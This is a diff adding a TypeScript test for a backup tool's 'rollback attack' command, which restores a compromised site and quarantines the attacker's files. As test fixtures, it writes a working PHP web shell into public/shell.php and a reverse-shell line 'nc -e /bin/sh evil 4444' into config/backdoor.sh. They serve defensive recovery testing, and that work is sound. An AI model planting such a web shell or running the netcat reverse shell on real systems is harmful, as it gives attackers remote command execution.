@@ -116,7 +116,7 @@ sources:
     assert.match(ls.stdout, /README_TO_DECRYPT\.txt/);
     const j = await cli(['journal', '--json', '--verify']);
     assert.equal(j.code, 0, j.stderr);
-    assert.deepEqual(json(j.stdout, 'journal_entry').map((e) => [e.operation, e.source, e.result]), [['rollback-attack', 'app', 'ok'], ['rollback-attack', 'orders', 'ok']]);
+    assert.deepEqual(json(j.stdout, 'journal_entry').filter((e) => e.operation === 'rollback-attack').map((e) => [e.operation, e.source, e.result]), [['rollback-attack', 'app', 'ok'], ['rollback-attack', 'orders', 'ok']]);
 
     const early = await cli(['rollback', 'attack', '--compromised-at', '2000-01-01T00:00:00Z', '--force']);
     assert.equal(early.code, 1);
@@ -155,4 +155,90 @@ test('rollback attack with deploy: the code goes back to the clean restore point
   assert.equal(live.id, (await readlink(current)).split('/').at(-1));
   assert.equal(releases.length, 3, 'a new release from the bundle; the compromised one stays on disk as evidence');
   assert.match(r.stdout, /"message_type":"step".*deploy the clean point's revision from its git bundle.*"status":"success"/);
+});
+
+test('rollback attack puts back only what the source covers: excluded files and what the audit does not list stay, and are kept in quarantine; a repository inside a path and unknown --accept ids are refused', async () => {
+  const t = await tempDir();
+  try {
+    const site = join(t.path, 'site');
+    await writeTree(site, {
+      'public/index.html': '<h1>shop</h1>\n',
+      'public/app.js': 'console.log("shop")\n'.repeat(20),
+      'logs/access.log': 'GET / 200\n',
+      'public/node_modules/dep/index.js': 'module.exports = 1\n',
+      'docs/audit.md': '- Project root: `..`\n\n### Configuration\n\n| path | why |\n|---|---|\n| `config/` | config |\n',
+      'config/app.yaml': 'port: 8080\n',
+      'src/index.js': 'start()\n',
+    });
+    const config = join(t.path, 'safepoint.yaml');
+    const yaml = (repo: string): string => `version: 1
+project: shop
+repositories:
+  main: { targets: [ ${repo} ] }
+sources:
+  - name: web
+    type: files
+    repository: main
+    paths: [ ${join(site, 'public')}, ${join(site, 'logs')} ]
+    exclude: [ "**/*.log", "**/node_modules" ]
+  - name: conf
+    type: files
+    repository: main
+    from_audit: ${join(site, 'docs', 'audit.md')}
+`;
+    await writeFile(config, yaml(join(t.path, 'repo')));
+    const cli = (...args: string[]): ReturnType<typeof runCli> => runCli([...args, '--config', config]);
+    assert.equal((await cli('init', '--repo', 'main')).code, 0);
+    for (const s of ['web', 'conf']) assert.equal((await cli('backup', '--source', s)).code, 0);
+    await sleep(1100);
+    const noticed = new Date().toISOString();
+    await sleep(1100);
+    // the attack: a defaced page, a web shell, a tampered log, an implanted dependency, a changed config, a new script
+    await writeFile(join(site, 'public/index.html'), '<h1>hacked</h1>\n');
+    await writeFile(join(site, 'public/shell.php'), '<?php system($_GET["c"]); ?>\n');
+    await writeFile(join(site, 'logs/access.log'), 'GET / 200\nGET /shell.php?c=id 200\n');
+    await writeFile(join(site, 'public/node_modules/dep/evil.js'), 'steal()\n');
+    await writeFile(join(site, 'config/app.yaml'), 'port: 8080\nadmin: open\n');
+    await writeFile(join(site, 'config/backdoor.sh'), 'nc -e /bin/sh evil 4444\n');
+    await writeFile(join(site, 'src/index.js'), 'start() // edited by the team, not backed up by these sources\n');
+
+    for (const [accept, message] of [['zz', /^error: --accept "zz": give at least 4 characters/m], ['abcdef12', /^error: --accept abcdef12: no such snapshot/m]] as const) {
+      const bad = await cli('rollback', 'attack', '--compromised-at', noticed, '--accept', accept, '--dry-run');
+      assert.equal(bad.code, 2, bad.stderr);
+      assert.match(bad.stderr, message);
+    }
+    const dry = await cli('rollback', 'attack', '--compromised-at', noticed, '--dry-run', '--json');
+    assert.equal(dry.code, 0, dry.stderr);
+    const plan = json(dry.stdout, 'in_place_plan').map((p) => [p.path, p.remove]);
+    assert.deepEqual(plan, [[join(site, 'public'), ['shell.php']], [join(site, 'logs'), []], [site, ['config/backdoor.sh']]]);
+
+    const r = await cli('rollback', 'attack', '--compromised-at', noticed, '--force', '--json');
+    assert.equal(r.code, 0, r.stderr);
+    const read = (rel: string): Promise<string> => readFile(join(site, rel), 'utf8');
+    assert.equal(await read('public/index.html'), '<h1>shop</h1>\n');
+    await assert.rejects(read('public/shell.php'));
+    assert.equal(await read('config/app.yaml'), 'port: 8080\n');
+    await assert.rejects(read('config/backdoor.sh'));
+    // outside the sources' scope: untouched
+    assert.match(await read('logs/access.log'), /shell\.php/);
+    assert.equal(await read('public/node_modules/dep/evil.js'), 'steal()\n');
+    assert.match(await read('src/index.js'), /edited by the team/);
+    assert.equal(await read('docs/audit.md').then((x) => x.length > 0), true);
+    // what was moved out is kept beside the path, and the quarantine snapshot holds everything, excludes ignored
+    const summary = json(r.stdout, 'summary').at(-1)!;
+    const kept = (summary.restored as { path: string; kept_in: string | null }[]).find((x) => x.path === join(site, 'public'))!.kept_in!;
+    assert.equal(await readFile(join(kept, 'public', 'shell.php'), 'utf8'), '<?php system($_GET["c"]); ?>\n');
+    const q = (summary.quarantined as { source: string; id: string }[]).find((x) => x.source === 'web')!;
+    const ls = await cli('ls', q.id, '--repo', 'main');
+    assert.match(ls.stdout, /access\.log/);
+    assert.match(ls.stdout, /evil\.js/);
+
+    // a repository inside a path the rollback puts back is refused before anything changes
+    await writeFile(config, yaml(join(site, 'public', '.backups')));
+    const inside = await cli('rollback', 'attack', '--compromised-at', noticed, '--force');
+    assert.equal(inside.code, 2);
+    assert.match(inside.stderr, /^error: a repository target \(.*\.backups\) lies inside .*public, which source web puts back: move the repository out of the backed-up folders first; nothing was changed$/m);
+  } finally {
+    await t.cleanup();
+  }
 });
